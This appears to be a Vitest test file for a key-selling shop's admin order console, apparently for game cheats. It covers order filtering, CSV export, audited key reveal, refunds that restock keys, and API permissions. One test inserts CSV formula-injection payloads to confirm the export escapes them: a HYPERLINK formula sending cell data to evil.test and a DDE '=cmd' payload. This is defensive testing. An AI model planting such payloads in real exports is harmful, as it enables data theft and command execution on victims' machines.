// The owner's orders: filters and CSV, the key revealed (audited), the delivery sent again,
// refunds with and without the key going back to stock, the bonus after a refund, and notes.
import { randomBytes } from "node:crypto";
import { and, eq, inArray } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { sentMail } from "../support/mail";
import { db } from "~/db/client.server";
import {
  auditLog,
  PaymentStatus,
  type prices,
  purchaseNotes,
  purchases,
  stockKeys,
  StockKeyStatus,
} from "~/db/schema";
import { formatMinor } from "~/utils/money";
import { parseEnv, setEnv } from "~/env.server";
import { action as orderAction, loader as orderPage } from "~/routes/admin.order";
import { loader as consoleIndex } from "~/routes/admin.index";
import { loader as ordersPage } from "~/routes/admin.orders";
import { loader as ordersCsv } from "~/routes/admin.orders-export";
import { action as ordersApiAction, loader as ordersApi } from "~/routes/api/admin.orders";
import { action as stockApiAction, loader as stockApi } from "~/routes/api/admin.stock";
import { signOrder, type Order } from "~/services/payments/orders.server";
import { deliveredText } from "~/services/payments/delivery.server";
import { computeBonus, listPurchases } from "~/services/payments/purchases.server";
import { resetSecretCache } from "~/services/secrets.server";
import { stockIdFor } from "~/services/stock/stock-keys.server";
import { stockLevels } from "~/services/stock/stock-levels.server";
import { exportSoldKeys, importKeys, revokeKeys } from "~/services/stock/stock-writes.server";
import { testDatabases } from "../support/databases";
import { jarOf, makeActor, type Actor } from "../support/live-server";
import { notifyOrder, notifyPayment, seededOption } from "../support/payments";
import { callRoute } from "../support/route-calls";
import { apiCaller, expectPermissionMatrix, makeApiTokens } from "../support/owner-api";
import { useSeededDatabase } from "../support/seeded";
import { minor } from "../support/money";

const tag = () => randomBytes(4).toString("hex").toUpperCase();

describe.each(testDatabases({ both: true }))("orders on $name", (database) => {
  useSeededDatabase(database);
  let owner: Actor;
  let buyer: Actor;
  let price: typeof prices.$inferSelect;
  let stockId: number;

  /** A paid invoice of the option, credited to the buyer; returns the purchase. */
  async function buy(email = `${tag().toLowerCase()}@players.example`) {
    const invoiceId = `ORD-${tag()}`;
    expect(await notifyPayment(price, invoiceId, { userId: buyer.user.id, email })).toBe(200);
    const [row] = await db().select().from(purchases).where(eq(purchases.invoiceId, invoiceId));
    return row;
  }

  /** The refund's confirmation as the console's form posts it, with the owner's reason. */
  const confirmed = { intent: "refund", confirm: "yes", reason: "The buyer was charged twice" };
  const post = async (id: number, fields: Record<string, string>) =>
    callRoute(orderAction as never, `/en/admin/orders/${id}`, {
      jar: jarOf(owner),
      params: { id: String(id) },
      init: {
        method: "POST",
        body: new URLSearchParams(fields),
        headers: { "Content-Type": "application/x-www-form-urlencoded" },
      },
    });

  beforeAll(async () => {
    setEnv(
      parseEnv({
        NODE_ENV: "test",
        LOG_LEVEL: "silent",
        DATA_DIR: `tmp/test-orders-${database.name}`,
        PUBLIC_URL: "http://shop.test",
      }),
    );
    resetSecretCache();
    owner = await makeActor("owner");
    buyer = await makeActor("client");
    price = await seededOption("ember-lite", 30, "ru");
    stockId = await stockIdFor(db(), { cheatId: price.cheatId!, periodDays: 30 });
    await revokeKeys({ actor: owner.user, via: "console" }, stockId, "all");
  });
  afterAll(() => setEnv(undefined));

  it("lists, filters and exports orders, reveals a key once audited, sends the delivery again", async () => {
    const keys = [`ORDKEY-${tag()}`, `ORDKEY-${tag()}`];
    await importKeys({ actor: owner.user, via: "console" }, stockId, keys);
    const email = `${tag().toLowerCase()}@players.example`;
    const purchase = await buy(email);
    const list = async (query: string) =>
      (await (
        await callRoute(ordersPage as never, `/en/admin/orders${query}`, { jar: jarOf(owner) })
      ).json()) as {
        total: number;
        rows: { id: number }[];
      };
    expect((await list(`?email=${encodeURIComponent(email)}`)).rows.map((r) => r.id)).toEqual([purchase.id]);
    expect((await list(`?invoice=${purchase.invoiceId}&status=1`)).total).toBe(1);
    expect((await list(`?invoice=${purchase.invoiceId}&status=3`)).total).toBe(0);
    // The shop's day (Moscow time), as the filter reads it.
    const today = new Intl.DateTimeFormat("en-CA", { timeZone: "Europe/Moscow" }).format(new Date());
    expect(
      (await list(`?product=ember&from=${today}&to=${today}`)).rows.some((r) => r.id === purchase.id),
    ).toBe(true);
    expect((await list(`?product=ember&to=2000-01-01`)).total).toBe(0);

    const csv = await callRoute(
      ordersCsv as never,
      `/en/admin/orders.csv?email=${encodeURIComponent(email)}`,
      {
        jar: jarOf(owner),
      },
    );
    const lines = (await csv.text()).trim().split("\r\n");
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(purchase.invoiceId);
    expect(lines[1]).toContain(",paid,");
    // The list and its export never carry a key.
    expect(lines.join()).not.toContain(keys[0]);

    const page = await (
      await callRoute(orderPage as never, `/en/admin/orders/${purchase.id}`, {
        jar: jarOf(owner),
        params: { id: String(purchase.id) },
      })
    ).json();
    expect(page.maskedKey).toMatch(/^ORDK…/);
    expect(JSON.stringify(page)).not.toContain(keys[0]);
    const revealed = await (await post(purchase.id, { intent: "reveal" })).json();
    expect(revealed).toEqual({ key: keys[0], error: null });
    const [audit] = await db()
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, "order.reveal"), eq(auditLog.entityId, String(purchase.id))));
    expect(audit.actorId).toBe(owner.user.id);

    const before = (await sentMail()).filter((m) => m.to === email).length;
    const resent = await post(purchase.id, { intent: "resend" });
    expect(resent.status).toBe(303);
    expect(resent.headers.get("Location")).toBe(`/en/admin/orders/${purchase.id}?done=resent`);
    const mails = (await sentMail()).filter((m) => m.to === email);
    expect(mails).toHaveLength(before + 1);
    expect(mails.at(-1)!.text).toContain(keys[0]);

    expect((await post(purchase.id, { intent: "note", body: "Asked twice for the key" })).status).toBe(303);
    const again = await (
      await callRoute(orderPage as never, `/en/admin/orders/${purchase.id}`, {
        jar: jarOf(owner),
        params: { id: String(purchase.id) },
      })
    ).json();
    expect(again.notes).toMatchObject([{ body: "Asked twice for the key", author: owner.user.login }]);
  });

  it("exports formula-looking cells as text: a wallet login, an e-mail and a sold key", async () => {
    const login = '=HYPERLINK("http://evil.test/?leak="&J3&J4,"Steam login")';
    const email = "=2+5@evil.test";
    const order: Order = {
      kind: "wallet",
      login,
      email,
      amountMinor: minor(50_000),
      currency: 0,
      userId: null,
      lang: "ru",
    };
    const invoiceId = `ORD-${tag()}`;
    expect(await notifyOrder(order, await signOrder(order), invoiceId, { email })).toBe(200);
    const csv = await callRoute(ordersCsv as never, `/en/admin/orders.csv?invoice=${invoiceId}`, {
      jar: jarOf(owner),
    });
    const [, row] = (await csv.text()).trim().split("\r\n");
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.test/?leak=""&J3&J4,""Steam login"")",`);
    expect(row).toContain(",'=2+5@evil.test,");
    expect(row).not.toMatch(/,=/);

    // A key imported with a leading "=" is sold as it is, and exported as text.
    await revokeKeys({ actor: owner.user, via: "console" }, stockId, "all");
    const hostileKey = `=cmd|'/C calc'!A0-${tag()}`;
    await importKeys({ actor: owner.user, via: "console" }, stockId, [hostileKey]);
    const purchase = await buy("@buyer.example");
    expect(await deliveredText(purchase)).toBe(hostileKey);
    const sold = (await exportSoldKeys({ actor: owner.user, via: "console" }, stockId)).split("\r\n");
    expect(sold.find((line) => line.startsWith(`'${hostileKey},`))).toMatch(/,'@buyer\.example$/);
  });

  it("refunds with the key kept out of stock or put back, serves a waiting buyer with it, and the bonus follows", async () => {
    await revokeKeys({ actor: owner.user, via: "console" }, stockId, "all");
    const [kept, returned] = [`KEEP-${tag()}`, `BACK-${tag()}`];
    await importKeys({ actor: owner.user, via: "console" }, stockId, [kept, returned]);
    const first = await buy();
    // Bought without an e-mail and never opened: its key was never shown to anyone.
    const second = await buy("");
    expect(await deliveredText(first)).toBe(kept);
    expect(await deliveredText(second)).toBe(returned);
    const waiting = await buy();
    expect(waiting.keyId).toBeNull();
    // The buyer's purchases say the key is on its way.
    const listed = await listPurchases(buyer.user.id, "en");
    expect(listed.find((p) => p.id === waiting.id)).toMatchObject({
      awaiting: true,
      status: PaymentStatus.Payed,
    });
    expect(listed.find((p) => p.id === first.id)).toMatchObject({ awaiting: false });
    expect(listed.find((p) => p.id === first.id)?.payAgainPath).toBeNull();
    // Orders not paid — awaiting payment, failed, not paid in time — offer "Pay again" on the
    // product's page, in the list's language; a paid one does not.
    const { id: _id, invoiceId: _invoice, ...copy } = first;
    const unpaid = await db()
      .insert(purchases)
      .values(
        [PaymentStatus.WaitPay, PaymentStatus.Fail, PaymentStatus.Expired].map((status) => ({
          ...copy,
          invoiceId: `UNPAID-${status}-${tag()}`,
          status,
          keyId: null,
        })),
      )
      .returning();
    const relisted = await listPurchases(buyer.user.id, "en");
    for (const order of unpaid)
      expect(relisted.find((p) => p.id === order.id)?.payAgainPath).toMatch(/^\/en\/(cheat\/|[\w-]+\/)/);
    await db()
      .delete(purchases)
      .where(
        inArray(
          purchases.id,
          unpaid.map((order) => order.id),
        ),
      );
    const spentBefore = (await computeBonus(buyer.user.id)).spent.rub;

    // Refund asks first: what goes back, the key's fate, the bonus; nothing changes yet.
    const asked = await post(first.id, { intent: "refund" });
    expect(asked.status).toBe(200);
    const bonusNow = (await computeBonus(buyer.user.id)).bonus;
    expect((await asked.json()).refund).toMatchObject({
      item: first.nameEn,
      key: "withdrawn",
      bonus: {
        before: bonusNow,
        after: (await computeBonus(buyer.user.id, db(), { excluding: first.id })).bonus,
      },
      reasonMissing: false,
    });
    // Confirmed without a reason: asked again, saying the reason is missing.
    const noReason = await post(first.id, { intent: "refund", confirm: "yes" });
    expect((await noReason.json()).refund).toMatchObject({ reasonMissing: true });
    expect((await db().select().from(purchases).where(eq(purchases.id, first.id)))[0].status).toBe(
      PaymentStatus.Payed,
    );
    // Refunded, key used: it stays sold with the refunded order; the reason is kept on the order.
    expect((await post(first.id, confirmed)).status).toBe(303);
    const notes = await db().select().from(purchaseNotes).where(eq(purchaseNotes.purchaseId, first.id));
    expect(notes.map((n) => n.body)).toContain(confirmed.reason);
    const [firstAfter] = await db().select().from(purchases).where(eq(purchases.id, first.id));
    expect(firstAfter).toMatchObject({ status: PaymentStatus.Refunded, keyId: first.keyId });
    expect(firstAfter.refundedAt).not.toBeNull();
    expect((await stockLevels([stockId])).get(stockId)).toMatchObject({ available: 0, awaiting: 1 });
    // The bonus no longer counts it.
    expect((await computeBonus(buyer.user.id)).spent.rub).toBeCloseTo(
      spentBefore - first.amountMinor / 100,
      2,
    );
    // The buyer is told, in the order's language: amount, item, the key, the discount now.
    const refundMail = (await sentMail()).find((m) => m.to === first.email)!;
    expect(refundMail.subject).toBe(`Возврат: ${first.nameRu}`);
    expect(refundMail.text).toContain(formatMinor(first.amountMinor, 0, "ru"));
    expect(refundMail.text).toContain("снят с продажи");
    expect(refundMail.text).toContain(`теперь она ${(await computeBonus(buyer.user.id)).bonus} %`);

    // Refunded, key never used: back in stock, and the waiting buyer gets it at once.
    expect((await post(second.id, { ...confirmed, keyUnused: "on" })).status).toBe(303);
    // Bought without an e-mail: the account's address is told, and that the key goes back.
    const toAccount = (await sentMail()).find((m) => m.to === buyer.user.email)!;
    expect(toAccount.subject).toBe(`Возврат: ${second.nameRu}`);
    expect(toAccount.text).toContain("возвращается в магазин");
    const [secondAfter] = await db().select().from(purchases).where(eq(purchases.id, second.id));
    expect(secondAfter).toMatchObject({ status: PaymentStatus.Refunded, keyId: null });
    const [waitingAfter] = await db().select().from(purchases).where(eq(purchases.id, waiting.id));
    expect(await deliveredText(waitingAfter)).toBe(returned);
    const [key] = await db().select().from(stockKeys).where(eq(stockKeys.id, second.keyId!));
    expect(key).toMatchObject({ status: StockKeyStatus.Sold, purchaseId: waiting.id });
    expect((await sentMail()).some((m) => m.to === waiting.email && m.text.includes(returned))).toBe(true);

    // A key the buyer has seen never goes back to sale, even when the owner says it was unused:
    // it is withdrawn, and the next buyer gets another key.
    const [shown, fresh] = [`SHOWN-${tag()}`, `FRESH-${tag()}`];
    await importKeys({ actor: owner.user, via: "console" }, stockId, [shown, fresh]);
    const third = await buy();
    expect(await deliveredText(third)).toBe(shown);
    // The delivery e-mail (sent in the background after the sale) shows the key to its buyer.
    expect((await sentMail()).some((m) => m.to === third.email && m.text.includes(shown))).toBe(true);
    const [shownRow] = await db().select().from(stockKeys).where(eq(stockKeys.id, third.keyId!));
    expect(shownRow.revealedAt).not.toBeNull();
    const orderView = await (
      await callRoute(orderPage as never, `/en/admin/orders/${third.id}`, {
        jar: jarOf(owner),
        params: { id: String(third.id) },
      })
    ).json();
    expect(orderView.keyRevealed).toBe(true);
    expect((await post(third.id, { ...confirmed, keyUnused: "on" })).status).toBe(303);
    const [withdrawn] = await db().select().from(stockKeys).where(eq(stockKeys.id, third.keyId!));
    expect(withdrawn.status).toBe(StockKeyStatus.Revoked);
    const next = await buy();
    expect(await deliveredText(next)).toBe(fresh);

    // A refund happens once; a refunded order cannot be refunded again.
    expect(await (await post(second.id, confirmed)).json()).toMatchObject({ error: "CONFLICT" });
    const refunds = await db().select().from(auditLog).where(eq(auditLog.action, "order.refund"));
    const these = refunds.filter((a) => [String(first.id), String(second.id)].includes(a.entityId));
    expect(these).toHaveLength(2);
    expect(these.map((a) => (a.after as { reason: string }).reason)).toEqual([
      confirmed.reason,
      confirmed.reason,
    ]);
  });

  it("shows the owner today's sales, 30 days of revenue, best sellers, stock to refill and support load", async () => {
    const before = await dashboard();
    await revokeKeys({ actor: owner.user, via: "console" }, stockId, "all");
    await importKeys({ actor: owner.user, via: "console" }, stockId, [`DASH-${tag()}`]);
    const paid = await buy();
    const waiting = await buy();
    expect(waiting.keyId).toBeNull();
    const after = await dashboard();
    expect(after.revenue).toHaveLength(30);
    expect(after.today.rub).toBeCloseTo(before.today.rub + (paid.amountMinor + waiting.amountMinor) / 100, 2);
    expect(after.today.orders).toBe(before.today.orders + 2);
    expect(after.awaiting).toBeGreaterThanOrEqual(1);
    expect(after.top.some((item: { name: string }) => item.name === "Ember Lite")).toBe(true);
    expect(
      after.lowStock.some((s: { id: number; awaiting: number }) => s.id === stockId && s.awaiting >= 1),
    ).toBe(true);
    expect(after.tickets).toMatchObject({ open: expect.any(Number), unanswered: expect.any(Number) });
    // Tech support sees the console's overview without the sales figures.
    const support = await makeActor("techsupport");
    const staff = await (await callRoute(consoleIndex as never, "/admin", { jar: jarOf(support) })).json();
    expect(staff.sales).toBeNull();
  });

  it("answers the owner API for stock and orders, to the owner and the owner's tokens only", async () => {
    const support = await makeActor("techsupport");
    const secrets = await makeApiTokens(owner, "sales");
    const call = apiCaller({ client: buyer, techsupport: support, owner }, secrets);
    const unknown = { params: { id: "999999", part: "keys" } };
    await expectPermissionMatrix(call, [
      { fn: stockApi, url: "/api/admin/stock", right: "edit" },
      { fn: stockApi, url: "/api/admin/stock/999999", params: { id: "999999" }, right: "edit" },
      {
        fn: stockApiAction,
        url: "/api/admin/stock/999999/keys",
        ...unknown,
        method: "POST",
        body: {},
        right: "edit",
      },
      { fn: ordersApi, url: "/api/admin/orders", right: "edit" },
      { fn: ordersApi, url: "/api/admin/orders/999999", params: { id: "999999" }, right: "edit" },
      {
        fn: ordersApiAction,
        url: "/api/admin/orders/999999/refund",
        params: { id: "999999", part: "refund" },
        method: "POST",
        body: {},
        right: "edit",
      },
    ]);

    // A vendor script stocks an option with a write token; a buyer gets one of those keys.
    const weekly = await seededOption("ember-lite", 7, "ru");
    const weeklyStock = await stockIdFor(db(), { cheatId: weekly.cheatId!, periodDays: 7 });
    await revokeKeys({ actor: owner.user, via: "console" }, weeklyStock, "all");
    const keysUrl = `/api/admin/stock/${weeklyStock}/keys`;
    const keysParams = { id: String(weeklyStock), part: "keys" };
    const vendorKeys = [`API-${tag()}`, `API-${tag()}`];
    const imported = await call(stockApiAction, keysUrl, "write", keysParams, "POST", {
      keys: [...vendorKeys, vendorKeys[0]],
    });
    expect(imported.status).toBe(200);
    const body = await imported.json();
    expect(body.counts).toMatchObject({ added: 2, duplicatesInBatch: 1 });
    expect(JSON.stringify(body)).not.toContain(vendorKeys[0]);
    const empty = await call(stockApiAction, `${keysUrl}?lang=en`, "write", keysParams, "POST", { keys: [] });
    expect(empty.status).toBe(422);
    expect(await empty.json()).toMatchObject({ code: "NO_KEYS", message: "No keys in the request" });

    const invoiceId = `API-${tag()}`;
    // No e-mail: the key is never shown to the buyer, so the refund may put it back.
    expect(await notifyPayment(weekly, invoiceId, { email: "" })).toBe(200);
    const [sold] = await db().select().from(purchases).where(eq(purchases.invoiceId, invoiceId));
    const key = await deliveredText(sold);
    expect(vendorKeys).toContain(key);
    const listed = await (await call(ordersApi, `/api/admin/orders?invoice=${invoiceId}`, "read")).json();
    expect(listed.rows.map((r: { id: number }) => r.id)).toEqual([sold.id]);
    const one = await (
      await call(ordersApi, `/api/admin/orders/${sold.id}`, "read", { id: String(sold.id) })
    ).json();
    expect(one.maskedKey).toMatch(/^API-…/);
    expect(JSON.stringify(one)).not.toContain(key!);
    const refundParams = { id: String(sold.id), part: "refund" };
    // The API asks first too: the preview, then a POST that confirms it with a reason.
    const preview = await call(
      ordersApi,
      `/api/admin/orders/${sold.id}/refund?keyUnused=true`,
      "read",
      refundParams,
    );
    expect((await preview.json()).refund).toMatchObject({ orderId: sold.id, key: "returned", bonus: null });
    const refundPost = (body: Record<string, unknown>) =>
      call(ordersApiAction, `/api/admin/orders/${sold.id}/refund`, "write", refundParams, "POST", body);
    expect((await refundPost({ keyUnused: true })).status).toBe(422);
    expect((await refundPost({ keyUnused: true, reason: "Charged twice" })).status).toBe(422);
    expect((await refundPost({ keyUnused: true, confirm: true })).status).toBe(422);
    expect((await stockLevels([weeklyStock])).get(weeklyStock)!.available).toBe(1);
    const refunded = await refundPost({ keyUnused: true, reason: "Charged twice", confirm: true });
    expect(refunded.status).toBe(200);
    expect((await stockLevels([weeklyStock])).get(weeklyStock)!.available).toBe(2);
  });

  async function dashboard() {
    const response = await callRoute(consoleIndex as never, "/en/admin", { jar: jarOf(owner) });
    expect(response.status).toBe(200);
    return (await response.json()).sales;
  }
});
